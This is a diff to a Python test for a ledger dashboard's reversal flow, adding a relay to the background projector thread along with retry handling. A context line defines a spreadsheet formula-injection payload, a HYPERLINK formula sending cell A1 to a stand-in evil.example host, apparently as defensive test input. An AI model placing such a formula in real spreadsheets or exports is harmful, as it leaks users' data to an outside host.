@@ -9,6 +9,7 @@ import re
 import threading
 import time
 from collections.abc import Iterator
+from contextlib import closing
 from datetime import date
 from decimal import Decimal
 
@@ -24,7 +25,7 @@ from services.ledger.read_side import PointInTime
 from tests.operators.conftest import World, build_world, project_until
 from tests.operators.test_dashboard_access import sign_in
 from tests.support.infra import KafkaInfo
-from tests.support.kafka_topics import publish_all
+from tests.support.kafka_topics import publish_all, service_relay
 
 CODE = "GM0363"
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
@@ -106,24 +107,32 @@ def test_reversing_from_the_journal_runs_the_apis_command_and_shows_the_event_an
     application = world.ledger.extensions["ledger"].application
     stored = application.recorder.max_notification_id()
 
-    # the projector runs beside the request, so the page can show the balance after the reversal
+    # the projector runs beside the request, and the relay publishes what the request stores, so the page can
+    # show the balance after the reversal
     stop, ready = threading.Event(), threading.Event()
+    failures: list[str] = []
+    rounds = [0]
 
     def pump() -> None:
-        runner = build_runner(world.settings)
         deadline = time.monotonic() + 120  # the test stops it long before; a failed one never leaves it running
-        try:
+        with service_relay(world.settings, application, EXPENDITURES) as relay, closing(
+            build_runner(world.settings)
+        ) as runner:
             while not stop.is_set() and time.monotonic() < deadline:
-                publish_all(world.settings, application, EXPENDITURES)
-                if runner.run_once(timeout_ms=200) == 0 and runner.consumer.assignment():
-                    ready.set()  # joined its group and caught up: from here it projects within a round
-        finally:
-            runner.close()
+                rounds[0] += 1
+                try:
+                    relay.run_once()
+                    if runner.run_once(timeout_ms=200) == 0 and runner.consumer.assignment():
+                        ready.set()  # joined its group and caught up: from here it projects within a round
+                except Exception as error:  # noqa: BLE001 - as the projector's own loop (run_forever): retried
+                    failures.append(repr(error))
+                    runner.rewind()
+                    stop.wait(0.5)
 
     projector = threading.Thread(target=pump, daemon=True)
     projector.start()
     try:
-        assert ready.wait(timeout=60), "the projector did not start"
+        assert ready.wait(timeout=60), f"the projector did not start in {rounds[0]} rounds; failures: {failures}"
         done = client.post(link, data={**fields, "reason": "booked in the wrong year", "booked_on": "2024-05-01"})
     finally:
         stop.set()
